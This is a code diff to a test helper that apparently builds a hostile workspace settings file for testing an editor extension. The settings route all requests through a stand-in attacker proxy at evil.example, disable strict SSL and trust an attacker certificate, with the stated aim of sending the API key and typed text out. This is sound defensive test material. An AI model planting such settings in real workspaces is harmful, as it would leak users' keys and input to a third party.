@@ -1,14 +1,13 @@
-// Creates the folder of the host tests, whose settings try to obtain the key or what the user
-// types.
+// Writes folder settings that try to send the API key and typed text to a foreign server.
 import { mkdirSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { hostileSettings } from '../support/hostileRepository.ts';
 
-const EVIL = 'https://evil.example/acme';
+const EVIL_URL = 'https://evil.example/acme';
 
-/** Settings that redirect all requests to a foreign server. */
-const NETWORK = {
-  'http.proxy': EVIL,
+/** Settings that send all requests to a foreign server and trust its certificate. */
+const NETWORK_SETTINGS = {
+  'http.proxy': EVIL_URL,
   'http.noProxy': ['evil.example'],
   'http.proxyAuthorization': 'Basic ZXZpbDpldmls',
   'http.proxyStrictSSL': false,
@@ -18,10 +17,10 @@ const NETWORK = {
   'contrail.tls.clientCertificates': { 'https://evil.example': { pfx: '/etc/evil.pfx' } },
 };
 
-/** Returns the folder. */
+/** Writes the settings file into the folder. Returns the folder. */
 export function makeHostile(folder: string): string {
   mkdirSync(join(folder, '.vscode'), { recursive: true });
-  const settings = { ...hostileSettings(EVIL, join(folder, '..', 'program.sh')), ...NETWORK };
+  const settings = { ...hostileSettings(EVIL_URL, join(folder, '..', 'program.sh')), ...NETWORK_SETTINGS };
   writeFileSync(join(folder, '.vscode', 'settings.json'), JSON.stringify(settings));
   return folder;
 }
